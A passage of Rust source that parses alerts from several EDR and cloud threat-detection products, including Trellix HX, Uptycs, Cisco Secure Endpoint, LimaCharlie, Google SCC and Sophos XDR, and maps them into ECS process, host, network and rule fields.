//! More endpoint products' alert shapes, mapped onto ECS with the same helpers as `edr`:
//! Trellix (FireEye) HX alerts, Uptycs alerts, Cisco Secure Endpoint events, LimaCharlie
//! detections, Google Security Command Center findings, Cybereason process queries, Carbon Black EDR
//! (Response) forwarder events, Aqua Tracee events, Wazuh file-integrity alerts of files
//! that run commands, and Prisma Cloud (Twistlock) runtime audits. Each adapter recognises its shape by fields no other shape has
//! together and returns `None` otherwise.

use super::edr::{
    finish, joined_args, mtext, process_columns, put_process, set_techniques, set_user, shell_join,
    text, with_branches,
};
use super::{basename_of, cron_job, program, s, set_path};
use serde_json::{Map, Value as Json, json};

/// Trellix (FireEye) HX alerts (`/hx/api/v3/alerts`): the event that matched is under
/// `event_values`, its fields named `KIND/field` (`processEvent/processCmdLine`,
/// `processEvent/parentProcessPath`, `ipv4NetworkEvent/remoteIP`, `dnsLookupEvent/hostname`,
/// `urlMonitorEvent/requestUrl`, `fileWriteEvent/fullPath` …); every kind names the process
/// (`process`, `processPath`) and its user. The host is the alert's `agent.hostname`, the rule
/// its `indicator`.
pub(super) fn fireeye_hx(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    let ev = obj.get("event_values")?.as_object()?;
    let kind = mtext(obj, "event_type").or_else(|| {
        ev.keys()
            .find_map(|k| k.split_once('/').map(|(kind, _)| kind))
    })?;
    let f = |k: &str| mtext(ev, &format!("{kind}/{k}"));
    f("process").or(f("processPath"))?;
    let mut e = Map::new();
    put_process(
        &mut e,
        "process",
        f("processPath").map(str::to_owned),
        f("processCmdLine"),
    );
    if f("processPath").is_none()
        && let Some(n) = f("process")
    {
        set_path(&mut e, "process.name", s(n));
    }
    put_process(
        &mut e,
        "process.parent",
        f("parentProcessPath").map(str::to_owned),
        None,
    );
    if f("parentProcessPath").is_none()
        && let Some(n) = f("parentProcess")
    {
        set_path(&mut e, "process.parent.name", s(n));
    }
    let num = |k: &str| {
        ev.get(&format!("{kind}/{k}")).and_then(|v| {
            v.as_i64()
                .or_else(|| v.as_str().and_then(|x| x.parse().ok()))
        })
    };
    for (from, to) in [("pid", "process.pid"), ("parentPid", "process.parent.pid")] {
        if let Some(v) = num(from) {
            set_path(&mut e, to, Json::from(v));
        }
    }
    if let Some(h) = f("md5") {
        set_path(&mut e, "process.hash.md5", s(h));
    }
    if let Some(u) = f("username") {
        set_user(&mut e, u);
    }
    // What the event itself did.
    let category = match kind {
        "ipv4NetworkEvent" | "ipv6NetworkEvent" => {
            if let Some(ip) = f("remoteIP").or(f("remoteIpAddress")) {
                set_path(&mut e, "destination.ip", s(ip));
            }
            if let Some(p) = num("remotePort") {
                set_path(&mut e, "destination.port", Json::from(p));
            }
            "network"
        }
        "dnsLookupEvent" => {
            if let Some(h) = f("hostname") {
                set_path(&mut e, "dns.question.name", s(h));
            }
            "network"
        }
        "urlMonitorEvent" => {
            if let Some(u) = f("requestUrl") {
                let full = match (u.contains("://"), f("hostname")) {
                    (false, Some(h)) => format!("http://{h}{u}"),
                    _ => u.to_owned(),
                };
                set_path(&mut e, "url.full", s(&full));
            }
            if let Some(h) = f("hostname") {
                set_path(&mut e, "destination.domain", s(h));
            }
            if let Some(ip) = f("remoteIpAddress") {
                set_path(&mut e, "destination.ip", s(ip));
            }
            if let Some(a) = f("userAgent") {
                set_path(&mut e, "user_agent.original", s(a));
            }
            "network"
        }
        "fileWriteEvent" => {
            if let Some(p) = f("fullPath") {
                set_path(&mut e, "file.path", s(p));
            }
            "file"
        }
        _ => "process",
    };
    if let Some(h) = obj.get("agent").and_then(|a| text(a, "hostname")) {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(i) = obj.get("indicator")
        && let Some(n) = text(i, "display_name").or_else(|| text(i, "name"))
    {
        set_path(&mut e, "rule.name", s(n));
    }
    if let Some(t) = mtext(obj, "event_at").or_else(|| f("timestamp")) {
        e.insert("@timestamp".into(), s(t));
    }
    let id = obj.get("_id").map(|v| match v {
        Json::String(x) => x.clone(),
        other => other.to_string(),
    });
    // Before `finish`, which would make it a process event.
    set_path(&mut e, "event.category", json!([category]));
    finish(
        &mut e,
        "fireeye_hx",
        "fireeye_hx",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// Uptycs alerts (`/api/customers/{id}/alerts`): the event that raised the alert is under
/// `metadata`, a JSON string (or object) of osquery `process_events` columns (`path`,
/// `cmdline`, `cwd`, `uid`, `parent_path`, `username`) plus `ancestor_list`, the parent chain
/// as JSON, nearest first. The alert's `code` and `description` name the rule.
pub(super) fn uptycs(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    if !(obj.contains_key("upt_asset_id")
        || obj.contains_key("assetId")
        || obj.contains_key("upt_hostname")
        // (the alert API's `asset` object beside the rule's `code` and its `metadata`)
        || (obj.contains_key("code")
            && obj.contains_key("metadata")
            && (obj.get("asset").is_some_and(|a| a.get("hostName").is_some())
                || obj.contains_key("assetHostName")
                // (snake case in some exports)
                || (obj.contains_key("asset_id") && obj.contains_key("host_name")))))
    {
        return None;
    }
    // An object, JSON text, or JSON text encoded twice (a forwarder that serialised it again).
    let mut meta = obj.get("metadata")?.clone();
    for _ in 0..2 {
        if let Json::String(m) = &meta {
            meta = serde_json::from_str::<Json>(m).ok()?;
        }
    }
    let meta = meta.as_object()?;
    // The row under its table's name (`metadata.process_events`), with the alert's other
    // context beside it.
    // Several rows (`process_events: [row, …]`, a chain the rule matched across): the first is
    // the process, the others follow its command as branches — a row without arguments by its
    // environment and program (`GCONV_PATH=… /usr/bin/pkexec`).
    let rows = meta
        .get("process_events")
        .and_then(Json::as_array)
        .filter(|r| !r.is_empty() && r.iter().all(Json::is_object));
    let later: Vec<String> = rows
        .into_iter()
        .flatten()
        .skip(1)
        .filter_map(|r| {
            text(r, "cmdline").map(str::to_owned).or_else(|| {
                let path = text(r, "path")?;
                Some(match text(r, "env") {
                    Some(env) => format!("{} {path}", env.replace(';', " ")),
                    None => path.to_owned(),
                })
            })
        })
        .collect();
    let merged;
    // (Some alerts carry the row as `process`, its parent an object beside its columns.)
    let row_key = if meta.contains_key("process_events") {
        "process_events"
    } else {
        "process"
    };
    let meta = match meta
        .get(row_key)
        .and_then(|p| p.as_object().or_else(|| p.as_array()?.first()?.as_object()))
        .filter(|r| mtext(r, "cmdline").is_some() || mtext(r, "path").is_some())
    {
        Some(row) => {
            let mut m = row.clone();
            if let Some(Json::Object(parent)) = row.get("parent").or_else(|| meta.get("parent")) {
                for (from, to) in [
                    ("path", "parent_path"),
                    ("cmdline", "parent_cmdline"),
                    ("pid", "ppid"),
                    ("name", "parent_name"),
                ] {
                    if let Some(v) = parent.get(from) {
                        m.entry(to.to_owned()).or_insert_with(|| v.clone());
                    }
                }
            }
            for (k, v) in meta {
                if k != row_key {
                    m.entry(k.clone()).or_insert_with(|| v.clone());
                }
            }
            merged = m;
            &merged
        }
        None => meta,
    };
    // osquery reports every column as a string; Uptycs gives numbers as numbers.
    let mut cols: Map<String, Json> = meta
        .iter()
        .map(|(k, v)| {
            let v = match v {
                Json::Number(n) => Json::String(n.to_string()),
                other => other.clone(),
            };
            (k.clone(), v)
        })
        .collect();
    // The alert names the column its rule matched and that column's value (`key`, `value`):
    // the command line itself when the rule matched on it (a `path` may be a file's).
    let has_cmd = cols.keys().any(|k| {
        let k: String = k
            .chars()
            .filter(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        k == "cmdline" || k == "commandline"
    });
    if mtext(obj, "key") == Some("cmdline")
        && let Some(v) = mtext(obj, "value")
        && !has_cmd
    {
        cols.insert("cmdline".into(), s(v));
    }
    let cols = Json::Object(cols);
    text(&cols, "cmdline").or_else(|| text(&cols, "path"))?;
    let mut e = Map::new();
    // What the process started, where the alert lists it (`children` objects, or
    // `child_commands` and `child_processes` as plain command lines), follows its command.
    // The script's text, where the rule quoted it (`script_preview`), follows them.
    let children: Vec<&str> = ["children", "child_commands", "child_processes"]
        .iter()
        .filter_map(|k| meta.get(*k)?.as_array())
        .flatten()
        .filter_map(|c| c.as_str().or_else(|| text(c, "cmdline")))
        .chain(later.iter().map(String::as_str))
        .chain(
            ["script_preview", "script_excerpt", "script_content"]
                .iter()
                .filter_map(|k| meta.get(*k)?.as_str()),
        )
        .collect();
    put_process(
        &mut e,
        "process",
        text(&cols, "path").map(str::to_owned),
        with_branches(text(&cols, "cmdline"), children).as_deref(),
    );
    let ancestors: Vec<Json> = match meta.get("ancestor_list").or_else(|| meta.get("ancestors")) {
        Some(Json::String(a)) => serde_json::from_str(a).unwrap_or_default(),
        Some(Json::Array(a)) => a.clone(),
        _ => Vec::new(),
    };
    // The oldest ancestor below the init process is the session's entry (the agent or the
    // daemon the chain started from).
    if ancestors.len() > 2
        && let Some(entry) = ancestors.iter().rev().find(|a| {
            !matches!(
                text(a, "path").map(basename_of),
                Some("launchd" | "systemd" | "init" | "kthreadd")
            )
        })
    {
        put_process(
            &mut e,
            "process.entry_leader",
            text(entry, "path").map(str::to_owned),
            text(entry, "cmdline"),
        );
    }
    // The row's own parent columns (`parent_path`, `parent_cmdline`) name the parent; a list
    // that starts above it (its first pid is not the row's `ppid`) starts at the grandparent.
    let num_of = |v: Option<&Json>| match v {
        Some(Json::Number(n)) => n.as_i64(),
        Some(Json::String(t)) => t.parse::<i64>().ok(),
        _ => None,
    };
    let ppid = num_of(cols.get("ppid"));
    let own_parent =
        text(&cols, "parent_path").is_some() || text(&cols, "parent_cmdline").is_some();
    let starts_above = own_parent
        && ancestors.first().is_some_and(|a| {
            let pid = num_of(a.get("pid"));
            (ppid.is_some() && pid.is_some() && pid != ppid)
                || text(a, "path")
                    .zip(text(&cols, "parent_path"))
                    .is_some_and(|(a, p)| basename_of(a) != basename_of(p))
        });
    let levels: &[&str] = if starts_above {
        &["process.parent.parent", "process.parent.parent.parent"]
    } else {
        &["process.parent", "process.parent.parent"]
    };
    for (a, prefix) in ancestors.iter().zip(levels.iter().copied()) {
        let path = text(a, "path").map(str::to_owned);
        if path.is_none()
            && let Some(n) = text(a, "exe_name")
        {
            set_path(&mut e, &format!("{prefix}.name"), s(n));
        }
        put_process(&mut e, prefix, path, text(a, "cmdline"));
    }
    process_columns(&cols, &mut e);
    // Where the script or program came from, when the rule recorded its download.
    if let Some(u) = ["script_download_url", "download_url", "quarantine_url"]
        .into_iter()
        .find_map(|k| text(&cols, k))
    {
        set_path(&mut e, "file.origin_url", s(u));
    }
    let host = ["host_name", "hostName", "upt_hostname", "assetHostName"]
        .into_iter()
        .find_map(|k| mtext(obj, k))
        .or_else(|| obj.get("asset").and_then(|a| text(a, "hostName")))
        .or_else(|| text(&cols, "upt_hostname"));
    if let Some(h) = host {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(os) = text(&cols, "os")
        .or_else(|| mtext(obj, "assetOs"))
        .or_else(|| mtext(obj, "os"))
    {
        set_path(&mut e, "host.os.name", s(os));
    }
    if let Some(n) = mtext(obj, "description").or_else(|| mtext(obj, "code")) {
        set_path(&mut e, "rule.name", s(n));
    }
    if let Some(t) = mtext(obj, "alert_time").or_else(|| mtext(obj, "alertTime")) {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "id").map(str::to_owned);
    finish(&mut e, "uptycs", "uptycs", Json::Object(obj.clone()));
    Some((e, id))
}

/// Cisco Secure Endpoint (AMP for Endpoints) events (`/v1/events`: `event_type`, `connector_guid`,
/// `computer` {`hostname`, `user` as `name@domain`, `network_addresses`}, `file` {`file_name`,
/// `file_path`, `identity` hashes, `parent` {`process_id`, `file_name`, `file_path`}},
/// `command_line.arguments`, `network_info` {`remote_ip`, `remote_port`, `dirty_url`},
/// `cloud_ioc`, `attack_details.indicators[].mitre_techniques`). Paths come as `\\?\C:\…` or
/// `/C:/…` on Windows.
pub(super) fn cisco_secure_endpoint(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let computer = obj.get("computer")?.as_object()?;
    mtext(obj, "connector_guid").or_else(|| mtext(computer, "connector_guid"))?;
    mtext(obj, "event_type")?;
    let file = obj.get("file").and_then(Json::as_object);
    let cmd = obj
        .get("command_line")
        .and_then(|c| text(c, "arguments"))
        .filter(|c| !c.trim().is_empty());
    if file.is_none() && cmd.is_none() {
        return None;
    }
    let path = |f: &Map<String, Json>| {
        mtext(f, "file_path").map(|p| {
            let p = p.strip_prefix("\\\\?\\").unwrap_or(p);
            match p.strip_prefix('/') {
                // `/C:/Windows/…`
                Some(rest) if rest.as_bytes().get(1) == Some(&b':') => rest.replace('/', "\\"),
                _ => p.to_owned(),
            }
        })
    };
    let mut e = Map::new();
    let mut windows = false;
    let mut node = file;
    for (prefix, cmd) in [
        ("process", cmd),
        ("process.parent", None),
        ("process.parent.parent", None),
    ] {
        let Some(f) = node else { break };
        let p = path(f);
        windows |= p.as_deref().is_some_and(|p| p.contains(":\\"));
        let cmd = cmd.or_else(|| mtext(f, "command_line"));
        put_process(&mut e, prefix, p.clone(), cmd);
        if p.is_none()
            && let Some(n) = mtext(f, "file_name")
        {
            set_path(&mut e, &format!("{prefix}.name"), s(n));
        }
        for h in ["sha256", "sha1", "md5"] {
            if let Some(v) = f.get("identity").and_then(|i| text(i, h)) {
                set_path(&mut e, &format!("{prefix}.hash.{h}"), s(v));
            }
        }
        node = f
            .get("parent")
            .or_else(|| f.get("grandparent"))
            .and_then(Json::as_object);
    }
    // The ancestry as a list of paths or command lines, oldest first, ending with the process
    // (`process_tree`): the parent's command line and the grandparent where the file lacks them.
    let tree: Vec<&str> = obj
        .get("process_tree")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .collect();
    let missing = |e: &Map<String, Json>, prefix: &str| {
        let mut v = e.get("process");
        for k in prefix.split('.').skip(1) {
            v = v.and_then(|x| x.get(k));
        }
        v.and_then(|x| x.get("command_line")).is_none()
    };
    for (back, prefix) in [(2, "process.parent"), (3, "process.parent.parent")] {
        if let Some(v) = tree.len().checked_sub(back).and_then(|i| tree.get(i))
            && missing(&e, prefix)
        {
            let program = v.trim_matches('"');
            if !v.contains(" /")
                && !v.contains(" -")
                && program.to_ascii_lowercase().ends_with(".exe")
            {
                put_process(&mut e, prefix, Some(program.to_owned()), None);
            } else {
                put_process(&mut e, prefix, None, Some(v));
            }
        }
    }
    // A forwarder's flattened copy: the parent's command line and the grandparent's path
    // beside the event.
    if missing(&e, "process.parent")
        && let Some(c) = mtext(obj, "parent_command_line")
    {
        set_path(&mut e, "process.parent.command_line", s(c));
    }
    if missing(&e, "process.parent.parent")
        && let Some(g) = mtext(obj, "grandparent")
    {
        put_process(&mut e, "process.parent.parent", Some(g.to_owned()), None);
    }
    if let Some(pid) = file
        .and_then(|f| f.get("parent"))
        .and_then(|p| p.get("process_id"))
        .and_then(Json::as_i64)
    {
        set_path(&mut e, "process.parent.pid", Json::from(pid));
    }
    if let Some(pid) = obj.get("process_id").and_then(Json::as_i64) {
        set_path(&mut e, "process.pid", Json::from(pid));
    }
    if let Some(h) = mtext(computer, "hostname") {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(ip) = computer
        .get("network_addresses")
        .and_then(Json::as_array)
        .and_then(|a| text(a.first()?, "ip"))
    {
        set_path(&mut e, "host.ip", s(ip));
    }
    // `jdoe@WS-1`, `SYSTEM@NT AUTHORITY`.
    if let Some(u) = mtext(computer, "user") {
        match u.rsplit_once('@') {
            Some((n, d)) if !n.is_empty() => {
                set_path(&mut e, "user.name", s(n));
                set_path(&mut e, "user.domain", s(d));
            }
            _ => set_user(&mut e, u),
        }
    }
    let os = mtext(obj, "os").map(str::to_ascii_lowercase);
    let exe = e
        .get("process")
        .and_then(|p| text(p, "executable"))
        .unwrap_or("");
    let os = match os.as_deref() {
        Some(o) if o.contains("windows") => "windows",
        Some(o) if o.contains("mac") || o.contains("os x") => "macos",
        Some(_) => "linux",
        None if windows => "windows",
        None if [
            "/Applications/",
            "/Volumes/",
            "/Users/",
            "/System/",
            "/Library/",
            "/private/",
        ]
        .iter()
        .any(|d| exe.starts_with(d)) =>
        {
            "macos"
        }
        // Another absolute path: Linux or macOS (`/usr/bin/dscl`), told apart later from
        // the programs and the chain (`derive`).
        None => "",
    };
    if !os.is_empty() {
        set_path(&mut e, "host.os.type", s(os));
    }
    if let Some(n) = obj.get("network_info").and_then(Json::as_object) {
        if let Some(ip) = mtext(n, "remote_ip") {
            set_path(&mut e, "destination.ip", s(ip));
        }
        if let Some(p) = n.get("remote_port").and_then(Json::as_i64) {
            set_path(&mut e, "destination.port", Json::from(p));
        }
        if let Some(d) = mtext(n, "domain") {
            set_path(&mut e, "destination.domain", s(d));
        }
        if let Some(u) = mtext(n, "dirty_url") {
            set_path(&mut e, "url.full", s(u));
            // The connection's host name is the URL's, when the event names none.
            if mtext(n, "domain").is_none()
                && let Some(h) = crate::funcs::url_host(u)
                    .filter(|h| !h.is_empty() && h.parse::<std::net::IpAddr>().is_err())
            {
                set_path(&mut e, "destination.domain", s(&h));
            }
        }
    }
    let ioc = obj.get("cloud_ioc");
    if let Some(r) = mtext(obj, "detection")
        .filter(|d| !d.is_empty())
        .or_else(|| ioc.and_then(|i| text(i, "short_description")))
        .or_else(|| mtext(obj, "event_type"))
    {
        set_path(&mut e, "rule.name", s(r));
    }
    if let Some(d) = ioc.and_then(|i| text(i, "description")) {
        set_path(&mut e, "rule.description", s(d));
    }
    let techniques: Vec<&str> = obj
        .get("attack_details")
        .and_then(|a| a.get("indicators"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|i| i.get("mitre_techniques")?.as_array())
        .flatten()
        .filter_map(Json::as_str)
        .collect();
    set_techniques(&mut e, &techniques);
    if let Some(t) = mtext(obj, "date") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = obj.get("id").map(|v| match v {
        Json::String(s) => s.clone(),
        other => other.to_string(),
    });
    finish(
        &mut e,
        "cisco-secure-endpoint",
        "cisco_secure_endpoint",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// LimaCharlie detections (`detect`: the event that matched, its `routing` — `hostname`,
/// `int_ip`, `plat` — and the rule's `cat` and `detect_mtd.tags`) and raw LimaCharlie EDR
/// events (`event` + `routing` at the top). A `NEW_PROCESS` event names the process
/// (`FILE_PATH`, `COMMAND_LINE`, `PROCESS_ID`, `USER_NAME`, `HASH`), its `PARENT` (with the
/// grandparent's `PARENT_FILE_PATH`) and its `NETWORK_ACTIVITY`.
pub(super) fn limacharlie(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    let detect = obj.get("detect").and_then(Json::as_object).unwrap_or(obj);
    let ev = detect.get("event")?.as_object()?;
    // The detection's own routing, then the envelope's (a detection repeats part of it).
    let routings: Vec<&Map<String, Json>> = [detect.get("routing"), obj.get("routing")]
        .into_iter()
        .flatten()
        .filter_map(Json::as_object)
        .collect();
    let route = |k: &str| {
        routings
            .iter()
            .find_map(|r| r.get(k).filter(|v| !v.is_null()))
    };
    let event_type = route("event_type")?.as_str().unwrap_or_default();
    let mut e = Map::new();
    // A file event (`FILE_TYPE_ACCESS`, `FILE_CREATE` …): its `FILE_PATH` is the file the
    // process touched, not the process's program.
    let file_event = event_type.starts_with("FILE_");
    let exe = mtext(ev, "FILE_PATH").filter(|_| !file_event);
    if file_event && let Some(f) = mtext(ev, "FILE_PATH") {
        set_path(&mut e, "file.path", s(f));
        set_path(&mut e, "file.name", s(basename_of(f)));
    }
    let cmd = mtext(ev, "COMMAND_LINE");
    if exe.is_none() && cmd.is_none() && !file_event {
        return None;
    }
    // What the process started, where the detection lists it, as branches of its command line.
    let children: Vec<&str> = ev
        .get("CHILDREN")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|c| text(c, "COMMAND_LINE"))
        .collect();
    put_process(
        &mut e,
        "process",
        exe.map(str::to_owned),
        with_branches(cmd, children).as_deref(),
    );
    let parent = ev.get("PARENT").and_then(Json::as_object);
    if let Some(p) = parent {
        put_process(
            &mut e,
            "process.parent",
            mtext(p, "FILE_PATH").map(str::to_owned),
            mtext(p, "COMMAND_LINE"),
        );
        put_process(
            &mut e,
            "process.parent.parent",
            mtext(p, "PARENT_FILE_PATH").map(str::to_owned),
            mtext(p, "PARENT_COMMAND_LINE"),
        );
        if let Some(pid) = p.get("PROCESS_ID").and_then(Json::as_i64) {
            set_path(&mut e, "process.parent.pid", Json::from(pid));
        }
    }
    if let Some(g) = ev.get("GRANDPARENT").and_then(Json::as_object) {
        put_process(
            &mut e,
            "process.parent.parent",
            mtext(g, "FILE_PATH").map(str::to_owned),
            mtext(g, "COMMAND_LINE"),
        );
    }
    if let Some(pid) = ev.get("PROCESS_ID").and_then(Json::as_i64) {
        set_path(&mut e, "process.pid", Json::from(pid));
    }
    if let Some(h) = mtext(ev, "HASH") {
        set_path(&mut e, "process.hash.sha256", s(h));
    }
    if let Some(u) = mtext(ev, "USER_NAME").or_else(|| parent.and_then(|p| mtext(p, "USER_NAME"))) {
        set_user(&mut e, u);
    }
    if let Some(id) = ev.get("USER_ID").and_then(Json::as_i64) {
        set_path(&mut e, "user.id", s(&id.to_string()));
    }
    // Windows' mandatory label RIDs.
    if let Some(l) = ev.get("INTEGRITY_LEVEL").and_then(Json::as_i64) {
        let level = match l {
            0x1000 => "Low",
            0x2000 => "Medium",
            0x3000 => "High",
            0x4000 => "System",
            _ => "",
        };
        if !level.is_empty() {
            set_path(&mut e, "process.integrity_level", s(level));
        }
    }
    if let Some(n) = ev
        .get("NETWORK_ACTIVITY")
        .and_then(Json::as_array)
        .and_then(|a| a.first())
    {
        if let Some(d) = n.get("DESTINATION") {
            if let Some(ip) = text(d, "IP_ADDRESS") {
                set_path(&mut e, "destination.ip", s(ip));
            }
            if let Some(p) = d.get("PORT").and_then(Json::as_i64) {
                set_path(&mut e, "destination.port", Json::from(p));
            }
        }
        if let Some(d) = text(n, "DOMAIN") {
            set_path(&mut e, "destination.domain", s(d));
        }
    }
    if let Some(h) = route("hostname").and_then(Json::as_str) {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(ip) = route("int_ip").and_then(Json::as_str) {
        set_path(&mut e, "host.ip", s(ip));
    }
    // The platform's high byte: 0x10 Windows, 0x20 Linux, 0x30 macOS.
    let os = match route("plat").and_then(Json::as_i64).map(|p| p >> 24) {
        Some(0x10) => "windows",
        Some(0x20) => "linux",
        Some(0x30) => "macos",
        _ => "",
    };
    if !os.is_empty() {
        set_path(&mut e, "host.os.type", s(os));
    }
    if let Some(c) = mtext(obj, "cat") {
        set_path(&mut e, "rule.name", s(c));
    }
    let tags: Vec<String> = obj
        .get("detect_mtd")
        .and_then(|m| m.get("tags"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .filter_map(|t| t.strip_prefix("attack."))
        .map(str::to_ascii_uppercase)
        .collect();
    set_techniques(&mut e, &tags.iter().map(String::as_str).collect::<Vec<_>>());
    if let Some(t) = route("event_time")
        .and_then(Json::as_i64)
        .and_then(chrono::DateTime::from_timestamp_millis)
    {
        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
    }
    let id = mtext(obj, "detect_id")
        .or_else(|| route("event_id").and_then(Json::as_str))
        .map(str::to_owned);
    finish(
        &mut e,
        "limacharlie",
        "limacharlie",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// Google Security Command Center findings with process evidence (Container Threat Detection,
/// VM Threat Detection: `finding.processes[]`, each with `binary.path`, `args`, `pid`,
/// `parentPid`; `finding.kubernetes` and `finding.containers` for where it ran). The process
/// judged is the one no other listed process started; its parent and grandparent come from the
/// same list by `parentPid`.
pub(super) fn gcp_scc(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    let f = obj.get("finding").and_then(Json::as_object).unwrap_or(obj);
    mtext(f, "category")?;
    // Event Threat Detection's startup-script finding: the script a principal added to an
    // instance's metadata, which the guest agent runs as root (or SYSTEM) at every boot.
    let props = f.get("sourceProperties").and_then(|p| p.get("properties"));
    if f.get("processes").is_none()
        && let Some(p) = props
        && let Some(key) = text(p, "metadataKeyAdded").filter(|k| k.contains("startup-script"))
        && let Some(script) = text(p, "metadataValue")
    {
        let windows = key.starts_with("windows-");
        let mut e = Map::new();
        let (exe, user) = if windows {
            (
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "SYSTEM",
            )
        } else {
            ("/bin/bash", "root")
        };
        put_process(&mut e, "process", Some(exe.to_owned()), Some(script));
        put_process(
            &mut e,
            "process.parent",
            Some(
                if windows {
                    "C:\\Program Files\\Google\\Compute Engine\\metadata_scripts\\GCEMetadataScripts.exe"
                } else {
                    "/usr/bin/google_metadata_script_runner"
                }
                .to_owned(),
            ),
            None,
        );
        set_path(&mut e, "user.name", s(user));
        if let Some(h) = text(p, "instanceName") {
            set_path(&mut e, "host.name", s(h));
        }
        set_path(
            &mut e,
            "host.os.type",
            s(if windows { "windows" } else { "linux" }),
        );
        if let Some(a) = f.get("access") {
            if let Some(pe) = text(a, "principalEmail") {
                set_path(&mut e, "user.email", s(pe));
            }
            if let Some(ip) = text(a, "callerIp") {
                set_path(&mut e, "source.ip", s(ip));
            }
        }
        if let Some(c) = mtext(f, "category") {
            set_path(&mut e, "rule.name", s(c));
        }
        set_path(&mut e, "file.path", s(&format!("metadata:{key}")));
        let id = mtext(f, "name").map(str::to_owned);
        finish(&mut e, "gcp-scc", "gcp_scc", Json::Object(obj.clone()));
        return Some((e, id));
    }
    let procs = f.get("processes")?.as_array()?;
    // Process ids come as numbers or as text.
    let id_of = |p: &Json, k: &str| {
        p.get(k).and_then(|v| {
            v.as_i64()
                .or_else(|| v.as_str().and_then(|s| s.parse().ok()))
        })
    };
    let pid = |p: &Json| id_of(p, "pid");
    let ppid = |p: &Json| id_of(p, "parentPid");
    let me = procs
        .iter()
        .find(|p| {
            let id = pid(p);
            id.is_none() || !procs.iter().any(|q| ppid(q) == id)
        })
        .or(procs.first())?;
    let by_pid = |id: Option<i64>| id.and_then(|i| procs.iter().find(|p| pid(p) == Some(i)));
    let mut e = Map::new();
    let mut cur = Some(me);
    for prefix in ["process", "process.parent", "process.parent.parent"] {
        let Some(p) = cur else { break };
        let path = p
            .get("binary")
            .and_then(|b| text(b, "path"))
            .map(str::to_owned);
        put_process(&mut e, prefix, path.clone(), joined_args(p).as_deref());
        if path.is_none()
            && let Some(n) = text(p, "name")
        {
            set_path(&mut e, &format!("{prefix}.name"), s(n));
        }
        if let Some(i) = pid(p) {
            set_path(&mut e, &format!("{prefix}.pid"), Json::from(i));
        }
        if prefix == "process"
            && let Some(h) = p.get("binary").and_then(|b| text(b, "sha256"))
        {
            set_path(&mut e, "process.hash.sha256", s(h));
        }
        cur = by_pid(ppid(p)).filter(|q| !std::ptr::eq(*q, p));
    }
    let k8s = f.get("kubernetes");
    if let Some(n) = k8s
        .and_then(|k| k.get("nodes"))
        .and_then(Json::as_array)
        .and_then(|n| text(n.first()?, "name"))
    {
        set_path(&mut e, "host.name", s(n));
    }
    if let Some(pod) = k8s
        .and_then(|k| k.get("pods"))
        .and_then(Json::as_array)
        .and_then(|p| p.first())
    {
        if let Some(n) = text(pod, "name") {
            set_path(&mut e, "orchestrator.resource.name", s(n));
        }
        if let Some(ns) = text(pod, "ns") {
            set_path(&mut e, "orchestrator.namespace", s(ns));
        }
    }
    if let Some(c) = f
        .get("containers")
        .and_then(Json::as_array)
        .and_then(|c| c.first())
    {
        if let Some(n) = text(c, "name") {
            set_path(&mut e, "container.name", s(n));
        }
        if let Some(u) = text(c, "uri") {
            set_path(&mut e, "container.image.name", s(u));
        }
    }
    set_path(&mut e, "host.os.type", s("linux"));
    if let Some(c) = mtext(f, "category") {
        set_path(&mut e, "rule.name", s(c));
    }
    if let Some(d) = mtext(f, "description") {
        set_path(&mut e, "rule.description", s(d));
    }
    if let Some(t) = mtext(f, "eventTime") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(f, "name").map(str::to_owned);
    finish(&mut e, "gcp-scc", "gcp_scc", Json::Object(obj.clone()));
    Some((e, id))
}

/// Sophos XDR detections (`/detections/v1/queries/detections`): the rule (`detectionRule`,
/// `detectionDescription`, `mitreAttacks`) and the device, with the Data Lake event that raised
/// it under `raw` (`meta_hostname`, `meta_username`, `path`, `cmd_line`, the parent's and the
/// grandparent's `…_name`, `…_path`, `…_cmd_line`, `process_integrity`, `network`).
pub(super) fn sophos_detection(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    mtext(obj, "detectionRule")?;
    // (`raw` is the event, or a list of them, the first the detection's own)
    let raw = obj.get("raw").or_else(|| obj.get("rawData"))?;
    let raw = raw
        .as_array()
        .and_then(|a| a.first())
        .unwrap_or(raw)
        .as_object()?;
    if !(obj.contains_key("sensor") || obj.contains_key("device")) {
        return None;
    }
    let r = |k: &str| mtext(raw, k);
    r("cmd_line").or(r("path"))?;
    let mut e = Map::new();
    // The grandparent's fields are `grandparent_…` or `gparent_…`.
    let grand = if ["path", "cmd_line", "name"]
        .iter()
        .any(|k| r(&format!("grandparent_{k}")).is_some())
    {
        "grandparent_"
    } else {
        "gparent_"
    };
    for (prefix, pre) in [
        ("process", ""),
        ("process.parent", "parent_"),
        ("process.parent.parent", grand),
    ] {
        let path = r(&format!("{pre}path")).map(str::to_owned);
        let has_path = path.is_some();
        put_process(&mut e, prefix, path, r(&format!("{pre}cmd_line")));
        if !has_path && let Some(n) = r(&format!("{pre}name")) {
            set_path(&mut e, &format!("{prefix}.name"), s(n));
        }
    }
    if let Some(h) = r("sha256") {
        set_path(&mut e, "process.hash.sha256", s(h));
    }
    if let Some(d) = r("cwd") {
